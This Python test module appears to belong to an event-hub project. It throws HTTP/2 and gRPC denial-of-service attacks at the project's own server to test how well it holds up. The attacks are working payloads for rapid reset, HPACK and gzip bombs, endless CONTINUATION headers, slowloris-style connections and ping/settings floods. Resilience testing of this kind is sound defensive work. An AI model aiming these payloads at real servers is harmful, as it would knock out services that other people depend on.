"""Attacks on a hub, each in a process of its own, which goes on until its standard input ends:

    python -m tests.e2e.attacks ATTACK GRPC_PORT WEB_PORT [tls]

It says "begun" once the attack is under way, and at the end how often it did what it does. Attackers come from
127.0.0.2, so that the hub can tell them from the clients that it is to serve, and run with low priority: they stand
for another machine, and what is to be seen is what the hub does with what they send.
"""

import gzip
import itertools
import os
import resource
import select
import struct
import sys
import time

from tests.support import http2
from tests.support.http2 import Peer, frame

ADDRESS = "127.0.0.2"
PRODUCE = "/millrace.v1.EventHubService/Produce"
SUBSCRIBE = "/millrace.v1.EventHubService/Subscribe"
TOPIC = b"orders"  # Which the test has filled.
# A SubscribeRequest from the earliest record on.
REQUEST = b"\x0a" + bytes([len(TOPIC)]) + TOPIC + b"\x22\x02\x08\x01"
FLOODING = 8  # Connections of an attack that sends without end,
KEPT = 2_000  # and of one that opens connections.
CALLS_OF_ONE = 1_000  # That a connection may have open.
AT_ONCE = 100  # Frames that go out together.
LARGEST = 16_384  # Bytes of a frame.
BEGUN = 50  # So often it was done: the attack is under way.


def flood(port, make, reads=True):
    """Sends what `make(turn)` gives, turn by turn, on several connections, each opened again when the hub has closed it.

    Yields whether it went out."""
    peers = [None] * FLOODING
    turns = [0] * FLOODING
    for i in itertools.cycle(range(FLOODING)):
        try:
            if peers[i] is None:
                peers[i], turns[i] = Peer(port, ADDRESS), 0
        except OSError:
            yield False
            continue
        sent = (not reads or peers[i].drain()) and peers[i].send(make(turns[i]))
        turns[i] += 1
        if not sent:
            peers[i].close()
            peers[i] = None
        yield sent


def open_and_keep(ports, begin=b""):
    """Opens connections, says how it begins on each and nothing more. Past KEPT the oldest makes room."""
    kept = []
    for port in itertools.cycle(ports):
        if len(kept) == KEPT:
            kept.pop(0).close()
        try:
            kept.append(Peer(port, ADDRESS, greet=False))
        except OSError:
            yield False
            continue
        yield not begin or kept[-1].send(begin)


def open_and_leave(grpc_port, web_port):
    return open_and_keep([grpc_port, web_port])


def half_a_preface(grpc_port, _):
    return open_and_keep([grpc_port], http2.PREFACE[:10])


def half_a_request(grpc_port, _):
    headers = frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request_headers(PRODUCE))
    half = frame(http2.DATA, 0, 1, http2.message(bytes(10_000))[:5_000])
    return open_and_keep([grpc_port], http2.PREFACE + frame(http2.SETTINGS) + headers + half)


def idle_calls(grpc_port, _):
    """As many calls as a connection may have, whose messages never come, over ever more connections."""
    block = http2.request_headers(PRODUCE)
    return open_and_keep([grpc_port], http2.PREFACE + frame(http2.SETTINGS) + frame(http2.SETTINGS, http2.ACK) +
                         b"".join(frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                                  for stream in range(1, 2 * CALLS_OF_ONE, 2)))


def subscriptions_never_read(grpc_port, _):
    """Ever more streams whose records are granted and not taken."""
    window = frame(http2.SETTINGS, payload=struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(
        http2.WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFF0000))
    block = http2.request_headers(SUBSCRIBE)

    def make(turn):
        stream = 2 * turn + 1
        return (b"" if turn else window) + frame(http2.HEADERS, http2.END_HEADERS, stream, block) + frame(
            http2.DATA, http2.END_STREAM, stream, http2.message(REQUEST))
    return flood(grpc_port, make, reads=False)


def gzip_bombs(grpc_port, _):
    """Messages of 60 MB as zip takes them, which fit the window of a new connection."""
    bomb = http2.message(gzip.compress(bytes(60_000_000)), compressed=True)
    assert len(bomb) < 65_535
    pieces = [bomb[i:i + LARGEST] for i in range(0, len(bomb), LARGEST)]
    block = http2.request_headers(PRODUCE, (b"grpc-encoding", b"gzip"))
    return open_and_keep([grpc_port], http2.PREFACE + frame(http2.SETTINGS) +
                         frame(http2.HEADERS, http2.END_HEADERS, 1, block) +
                         b"".join(frame(http2.DATA, 0, 1, piece) for piece in pieces))


def headers(stream, block):
    """A call whose header block takes several frames."""
    pieces = [block[i:i + LARGEST] for i in range(0, len(block), LARGEST)]
    return (frame(http2.HEADERS, 0, stream, pieces[0]) +
            b"".join(frame(http2.CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]) +
            frame(http2.CONTINUATION, http2.END_HEADERS, stream, pieces[-1]))


def huge_headers(grpc_port, _):
    """Calls with one header of a megabyte."""
    block = http2.request_headers(PRODUCE, (b"x", b"v" * (1 << 20)))
    return flood(grpc_port, lambda turn: headers(2 * turn + 1, block))


def endless_headers(grpc_port, fragment):
    """A call whose header block never ends."""
    first = frame(http2.HEADERS, 0, 1, http2.request_headers(PRODUCE))
    more = frame(http2.CONTINUATION, 0, 1, fragment) * 10
    return flood(grpc_port, lambda turn: more if turn else first)


def many_headers(grpc_port, _):
    header = http2.literal(b"name", b"value")
    return endless_headers(grpc_port, header * (LARGEST // len(header)))


def split_headers(grpc_port, _):
    """The same, each header within a frame of its own."""
    first = frame(http2.HEADERS, 0, 1, http2.request_headers(PRODUCE))
    more = frame(http2.CONTINUATION, 0, 1, http2.literal(b"name", b"value" * 20)) * (10 * AT_ONCE)
    return flood(grpc_port, lambda turn: more if turn else first)


def endless_header(grpc_port, _):
    """One header that says it is 2 GiB long, and comes bit by bit."""
    first = frame(http2.HEADERS, 0, 1, http2.request_headers(PRODUCE) + b"\x00\x01x" + http2.varint(1 << 31, 7))
    more = frame(http2.CONTINUATION, 0, 1, b"v" * LARGEST) * 10
    return flood(grpc_port, lambda turn: more if turn else first)


def endless_number(grpc_port, _):
    """A header whose length is a number of ever more digits, all of them 0."""
    first = frame(http2.HEADERS, 0, 1, http2.request_headers(PRODUCE) + b"\x00\x01x\x7f")
    more = frame(http2.CONTINUATION, 0, 1, b"\x80" * LARGEST) * 10
    return flood(grpc_port, lambda turn: more if turn else first)


def remembered_headers(grpc_port, _):
    """Header blocks that name one header of the table ten thousands of times, a byte each (an HPACK bomb)."""
    large = b"\x40\x01x" + http2.varint(3_900, 7) + b"v" * 3_900  # Goes into the table, which holds 4 KiB.
    block = http2.request_headers(PRODUCE) + large + b"\xbe" * 60_000
    return flood(grpc_port, lambda turn: headers(2 * turn + 1, block))


def provoked_ends(grpc_port, _):
    """Subscriptions that a wrong frame makes the hub's gRPC end before the hub has begun them (as CVE-2025-8671)."""
    block = http2.request_headers(SUBSCRIBE)

    def make(turn):
        streams = range(2 * AT_ONCE * turn + 1, 2 * AT_ONCE * (turn + 1), 2)
        return (b"" if turn else frame(http2.SETTINGS, http2.ACK)) + b"".join(
            frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
            frame(http2.DATA, http2.END_STREAM, stream, b"\x05" + http2.message(REQUEST)[1:]) for stream in streams)
    return flood(grpc_port, make)


def rapid_resets(grpc_port, _):
    """Subscriptions that are taken back in the next frame."""
    block = http2.request_headers(SUBSCRIBE)

    def make(turn):
        streams = range(2 * AT_ONCE * turn + 1, 2 * AT_ONCE * (turn + 1), 2)
        return b"".join(frame(http2.HEADERS, http2.END_HEADERS, stream, block) +
                        frame(http2.DATA, http2.END_STREAM, stream, http2.message(REQUEST)) +
                        frame(http2.RST_STREAM, 0, stream, http2.CANCEL) for stream in streams)
    return flood(grpc_port, make)


def pings(grpc_port, _):
    many = frame(http2.PING, payload=bytes(8)) * AT_ONCE
    return flood(grpc_port, lambda turn: many)


def settings(grpc_port, _):
    """Each of which asks for an answer that is never read."""
    many = frame(http2.SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * AT_ONCE
    return flood(grpc_port, lambda turn: many, reads=False)


ATTACKS = {attack.__name__: attack for attack in (
    open_and_leave, half_a_preface, half_a_request, idle_calls, subscriptions_never_read, gzip_bombs, huge_headers, many_headers,
    split_headers, remembered_headers, provoked_ends, endless_header, endless_number, rapid_resets, pings, settings)}


def main(name, grpc_port, web_port, tls=""):
    if tls:
        Peer.tls = http2.unverified()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(19)
    done = 0
    for went_out in ATTACKS[name](int(grpc_port), int(web_port)):
        done += went_out
        if went_out and done == BEGUN:
            print("begun", flush=True)
        if not went_out:
            time.sleep(0.001)
        if select.select([sys.stdin], [], [], 0)[0]:
            break
    print(done, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
